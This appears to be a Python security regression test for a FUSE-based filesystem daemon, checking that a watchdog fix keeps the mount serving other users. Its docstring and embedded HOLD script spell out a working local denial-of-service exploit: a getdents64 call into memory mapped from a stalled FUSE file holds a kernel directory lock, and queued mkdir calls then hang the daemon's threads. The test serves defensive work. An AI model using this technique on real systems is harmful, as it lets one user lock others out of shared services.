# SPDX-License-Identifier: GPL-2.0-or-later
"""Red team of 7c4b449 (fs/submount.c): the daemon's threads held forever
without any mount below SRC.

7c4b449 stops the daemon from *sending a request* to a FUSE server another
user mounted below SRC. But a host user who can merely read a directory
below SRC can make the daemon's threads wait forever on a *kernel lock*
instead, with a FUSE server mounted anywhere (its own /tmp directory, no
allow_other, no user_allow_other):

- fault_fuse.c serves a file f whose READ is never answered;
- the attacker mmap()s f and passes the mapping as the buffer of
  getdents64() on SRC/d: iterate_dir() takes d's i_rwsem (shared), filldir
  copies the first entry to the buffer, the copy faults, the fault waits on
  the READ forever: d's i_rwsem stays held (shared) for good;
- a mkdir SRC/d/x of the attacker's queues as a writer on that rwsem
  (filename_create() locks the parent before any permission check, so no
  write permission is needed) and, after the rwsem's handoff, every new
  reader queues behind it;
- from then on every daemon LOOKUP of a name not in the dcache of d
  (openat() -> lookup_slow() -> inode_lock_shared()) waits forever: one
  thread per request, and daemon_threads() such requests by *anyone* (here
  another user, shiftfs-victim; the attacker never touches the mount) hang
  the whole mount.

Nothing is mounted below SRC, so sfs_submount_check() never runs. No
system call lets the daemon look a name up without that lock; now
(fs/loop.c, the watchdog) when every serving thread has been inside a
handler for a second with none returning, one more receiver joins them (up
to 64): a held directory costs one thread, not the mount."""
import os
import signal
import subprocess
import time

from attack import (ATTACKER, VICTIM, daemon_stacks, daemon_threads,
                    descendant, fuse_server, gid_of, kill_wait, spawn, uid_of,
                    victim_is_served)
from conftest import Mount, mountinfo, need_root_and_fuse
from fs_util import scratch_fixture

FIXTURES = (scratch_fixture,)

HOLD = r"""
import ctypes, mmap, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
SYS_getdents64 = 217  # x86_64
f, dirs = sys.argv[1], sys.argv[2:]
fd = os.open(f, os.O_RDONLY)
m = mmap.mmap(fd, 65536, mmap.MAP_PRIVATE,
              mmap.PROT_READ | mmap.PROT_WRITE)
addr = ctypes.addressof(ctypes.c_char.from_buffer(m))
for d in dirs:
    if os.fork() == 0:
        dfd = os.open(d, os.O_RDONLY | os.O_DIRECTORY)
        r = libc.syscall(SYS_getdents64, dfd, ctypes.c_void_p(addr), 4096)
        os.write(2, b"getdents returned %d errno %d\n" %
                 (r, ctypes.get_errno()))
        os._exit(0)
print("holding", flush=True)
time.sleep(60)
"""


class FaultServer:
    """fault_fuse (tests/security/fault_fuse.c) mounted by user on a
    directory of its own outside SRC, without allow_other."""

    def __init__(self, s, user=ATTACKER):
        self.bin = fuse_server(s.path, "fault_fuse.c")
        self.path = s.p("atkfuse")
        os.mkdir(self.path)
        os.chown(self.path, uid_of(user), gid_of(user))
        self.proc = subprocess.Popen(
            ["runuser", "-u", user, "--", self.bin, "-f", self.path],
            cwd="/", stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        end = time.monotonic() + 5
        while not [f for f in mountinfo() if f[4] == self.path]:
            assert self.proc.poll() is None and time.monotonic() < end
            time.sleep(0.02)
        self.pid = descendant(self.proc.pid, "fault_fuse")

    def close(self):
        if self.pid:
            try:
                os.kill(self.pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        try:
            self.proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            self.proc.kill()
        subprocess.run(["umount", "-l", self.path], capture_output=True)


def test_a_directory_lock_held_through_a_fuse_page_fault_hangs_no_thread(
        scratch):
    """One directory held per thread (the kernel sends one LOOKUP at a
    time per directory of the mount, so a single held directory costs one
    thread, and hangs every lookup of a new name in it for everyone)."""
    need_root_and_fuse()
    s = scratch
    n = daemon_threads() + 1
    dirs = []
    for i in range(n):
        d = os.path.join(s.src, "pub%d" % i)  # root's, 0755: readable
        os.mkdir(d)
        os.chmod(d, 0o755)
        with open(os.path.join(d, "file"), "w") as f:
            f.write("x\n")
        dirs.append(d)
    m = Mount(s.src, s.mnt, "identity")
    server = FaultServer(s)
    procs = []
    try:
        holder = spawn(ATTACKER, ["python3", "-c", HOLD,
                                  os.path.join(server.path, "f")] + dirs)
        procs.append(holder)
        assert holder.stdout.readline().strip() == "holding"
        time.sleep(0.5)
        # The writers that make every later reader queue (no write
        # permission on pub<i> needed: the lock is taken first).
        for d in dirs:
            procs.append(spawn(ATTACKER, ["mkdir", os.path.join(d, "x")]))
        time.sleep(0.5)
        # Other users' ordinary lookups through the mount.
        victims = [spawn(VICTIM, ["stat", os.path.join(
            s.mnt, "pub%d" % i, "new%d" % i)])
            for i in range(n)]
        procs += victims
        time.sleep(2)
        stuck = [p for p in victims if p.poll() is None]
        done, out = victim_is_served(s, "fresh")
        info = "victims stuck: %d/%d; daemon threads: %s" % (
            len(stuck), n, daemon_stacks(m.proc.pid))
        assert done, (
            "another user's read through the mount hangs: every daemon "
            "thread waits on an i_rwsem of SRC that shiftfs-atk holds "
            "through a page fault on its own FUSE server (" + info + ")")
        assert out == "victim's data\n"
    finally:
        # SIGKILL of the server fails the fault: the locks go, the daemon's
        # threads come back, every process ends.
        server.close()
        kill_wait(procs)
        m.stop(check_log=False)
